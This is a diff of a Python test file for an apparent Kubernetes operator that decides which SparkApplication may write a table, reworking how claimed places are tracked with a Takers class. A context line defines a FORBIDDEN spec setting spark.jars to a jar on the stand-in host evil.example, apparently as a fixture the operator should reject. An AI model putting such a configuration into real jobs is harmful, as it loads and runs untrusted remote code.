@@ -10,11 +10,12 @@ from tables_world import World, ready, run, sink
 
 from bmq.resources.parquet_sink import ParquetSink
 from bmq.resources.tables import TableStatus
+from bmq_operator.known import PLACE_TAKEN_S
 from bmq_operator.kube import KubeProblem, KubeUnreachable
 from bmq_operator.outcome import Outcome
-from bmq_operator.tables.claims import TAKEN_S
 from bmq_operator.tables.places import PLACE
 from bmq_operator.tables.reconcile import reconcile
+from bmq_operator.takers import Takers
 
 FORBIDDEN = {**STREAM, "sparkConf": {"spark.jars": "http://evil.example/x.jar"}}
 
@@ -89,7 +90,7 @@ def test_who_writes_a_table_keeps_it_from_an_older_resource(first: dict[str, Any
             del world.kube.manifests["SparkApplication", "shop", application]["metadata"]["annotations"][PLACE]
         another = {**first}
         world.kube.keep(another)
-        world.context.known.places_taken.clear()  # as after another operator led
+        world.context.known.places_taken = Takers(kept_s=PLACE_TAKEN_S)  # as after another operator led
         for _ in range(2):
             world.context.known.table_claims.forget("claims")
             taken = await look(world, another)
@@ -141,8 +142,7 @@ def test_who_took_a_place_and_writes_nothing_is_in_nobodys_way_once_all_that_is_
         world.kube.keep(another)
         world.context.known.table_claims.forget("claims")
         assert ready(await look(world, another)).reason == "OutputTaken", "it may be written already"
-        taken = world.context.known.places_taken
-        taken.update({place: (at_s - TAKEN_S - 1, taker) for place, (at_s, taker) in taken.items()})
+        world.context.known.places_taken.kept_s = -1.0  # all that is read tells it by now
         world.context.known.table_claims.forget("claims")
         assert ready(await look(world, another)).reason != "OutputTaken"
         assert writers(world) == {"older-sink"}
@@ -192,7 +192,7 @@ def test_what_somebody_elses_application_says_of_itself_takes_no_table_from_what
             meta |= {"annotations": {PLACE: place}, "ownerReferences": owners}
             world.kube.keep({"kind": "SparkApplication", "metadata": meta, "spec": {"suspend": True}})
             world.context.known.table_claims.forget("claims")
-            world.context.known.places_taken.clear()
+            world.context.known.places_taken = Takers(kept_s=PLACE_TAKEN_S)
             outcome = await look(world, lake)
             assert ready(outcome).reason != "OutputTaken"
             assert writers(world) == before | {"pi"}
